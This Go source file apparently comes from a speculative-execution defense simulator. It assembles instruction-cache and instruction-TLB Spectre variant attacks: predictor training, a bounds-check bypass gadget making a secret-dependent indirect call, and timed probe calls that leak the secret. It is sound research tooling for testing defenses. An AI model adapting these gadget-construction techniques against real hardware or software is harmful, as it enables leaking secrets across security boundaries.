package attacks

import (
	"fmt"

	"safespec/internal/asm"
	"safespec/internal/isa"
)

// ICacheVariant returns the paper's new I-cache Spectre variant (Section
// IV-A, Figure 5): instead of a data-dependent data access, the gadget
// makes a secret-dependent *indirect call*, so the footprint lands in the
// instruction cache. The receiver times calls to each candidate function;
// the one whose code line is already cached reveals the secret.
//
// As in the paper, training runs the gadget with attackMode = 0 so it
// always dispatches to the benign function (func0); the attack run sets
// attackMode = 1, making the speculatively executed gadget call
// func(secret), whose code line is fetched into the (shadow) I-cache
// before the mispredicted bounds check squashes everything.
func ICacheVariant() Attack {
	return Attack{
		Name:         "spectre-icache",
		Secret:       DefaultSecret,
		Build:        icacheProgram,
		MinGap:       50,
		FastIsSignal: true,
	}
}

// ITLBVariant returns the instruction-TLB variant: the candidate functions
// are spaced PageGap pages apart in the code, so the secret-dependent
// speculative call installs an iTLB translation (and its page-walk cache
// lines). The receiver flushes every candidate's code lines first, so the
// remaining timing difference comes from the translation path.
func ITLBVariant() Attack {
	return Attack{
		Name:         "spectre-itlb",
		Secret:       DefaultSecret,
		Build:        itlbProgram,
		MinGap:       50,
		FastIsSignal: true,
	}
}

var (
	icacheProgram = memoized(func(secret int64) (*isa.Program, error) { return buildInstrVariant(secret, 1) })
	itlbProgram   = memoized(func(secret int64) (*isa.Program, error) { return buildInstrVariant(secret, 2) })
)

func fnLabel(i int) string { return fmt.Sprintf("fn%d", i) }

// buildInstrVariant assembles the shared structure of the I-cache and
// I-TLB attacks. kind 1 = I-cache (functions one line apart, no flush
// before probing); kind 2 = I-TLB (functions PageGap pages apart, code
// lines flushed before probing).
func buildInstrVariant(secret int64, kind int) (*isa.Program, error) {
	b := asm.NewBuilder()
	emitResultsRegion(b)
	b.Region(BoundChainBase, 4096, false)
	b.Region(SecretVA, 4096, false)
	b.Region(FnTableBase, Slots*8+64, false)
	b.Data(SecretVA, secret)
	for i := 0; i < Slots; i++ {
		b.DataLabel(FnTableBase+uint64(i)*8, fnLabel(i))
	}

	const (
		rGate = isa.A0 // gadget argument: 0 trains, 1 attacks (as bound input)
		rBnd  = isa.T0
		rSec  = isa.T1
		rAM   = isa.T2
		rFn   = isa.T3
		rIter = isa.S0
		rLim  = isa.S1
		rTmp  = isa.S2
		rAdr  = isa.S3
		rRA   = isa.S4 // saved return address around the inner call
	)

	// attackMode cell.
	b.Data(ScratchBase, 0)

	// --- main ---
	// Training: gate=0 (< bound 1, so the check passes and the gadget body
	// runs architecturally); attackMode=0 keeps the dispatch at func0.
	b.Movi(rIter, 0)
	b.Movi(rLim, 8)
	b.Label("train")
	b.Movi(rGate, 0)
	b.Call("victim")
	b.Addi(rIter, rIter, 1)
	b.Blt(rIter, rLim, "train")

	// Arm: attackMode=1, flush the bound chain, call with gate=1 (>= bound,
	// so architecturally the body must NOT run — but the predictor says
	// otherwise).
	b.Movi(rAdr, int64(ScratchBase))
	b.Movi(rTmp, 1)
	b.Store(rTmp, rAdr, 0)
	emitFlushChain(b, rTmp, BoundChainBase, 2)
	b.Fence()
	b.Movi(rGate, 1)
	b.Call("victim")
	b.Fence()
	// Fetch barrier: while the mispredicted gadget is still in flight the
	// front end keeps fetching down this (correct) path, and fetch-time
	// call/return redirects would pre-touch the receiver's candidate
	// functions, polluting the measurement. The fence blocks dispatch, so
	// a pad longer than the fetch buffer pins the wrong-path front end
	// here until the bounds branch resolves.
	b.Nops(24)

	if kind == 2 {
		// I-TLB receiver: flush each candidate's entry code line so the
		// I-cache no longer distinguishes them — only the translation
		// path (iTLB entry, cached PTE lines) differs. The label index is
		// loaded from the function table, converted to a byte address
		// (×4) and offset by the code base, then clflushed.
		for i := 0; i < Slots; i++ {
			b.Movi(rAdr, int64(FnTableBase+uint64(i)*8))
			b.Load(rFn, rAdr, 0)
			b.Shli(rFn, rFn, 2) // ×BytesPerInstr
			b.Movi(rTmp, int64(isa.CodeBase))
			b.Add(rFn, rFn, rTmp)
			b.Clflush(rFn, 0)
		}
		b.Fence()
	}

	emitProbeCalls(b, fnLabel)
	b.Halt()

	// --- victim gadget ---
	// if (gate < bound) { fn = table[secret * attackMode]; fn(); }
	b.Label("victim")
	emitBoundChain(b, rBnd, BoundChainBase, 2, 1) // bound = 1
	b.Bge(rGate, rBnd, "victim_out")
	b.Movi(rAdr, int64(SecretVA))
	b.Load(rSec, rAdr, 0)
	b.Movi(rAdr, int64(ScratchBase))
	b.Load(rAM, rAdr, 0)
	b.Mul(rSec, rSec, rAM) // 0 during training → func0 (benign)
	b.Shli(rSec, rSec, 3)
	b.Movi(rAdr, int64(FnTableBase))
	b.Add(rAdr, rAdr, rSec)
	b.Load(rFn, rAdr, 0)
	b.Add(rRA, isa.RA, isa.Zero) // save ra: the inner call clobbers it
	b.Calli(rFn, 0)              // secret-dependent instruction fetch
	b.Add(isa.RA, rRA, isa.Zero) // restore ra
	b.Label("victim_out")
	b.Ret()

	// --- candidate functions ---
	// kind 1: each function starts on its own I-cache line (16 instrs).
	// kind 2: each function starts PageGap pages apart (PageGap*1024
	// instructions), so leaf PTEs sit on distinct cache lines.
	spacing := 16
	if kind == 2 {
		spacing = PageGap * 1024
	}
	for i := 0; i < Slots; i++ {
		padToMultiple(b, spacing)
		b.Label(fnLabel(i))
		b.Addi(isa.T6, isa.T6, int64(i))
		b.Ret()
	}

	return b.Build()
}

// padToMultiple emits nops until the next instruction index is a multiple
// of n.
func padToMultiple(b *asm.Builder, n int) {
	for b.Len()%n != 0 {
		b.Nop()
	}
}
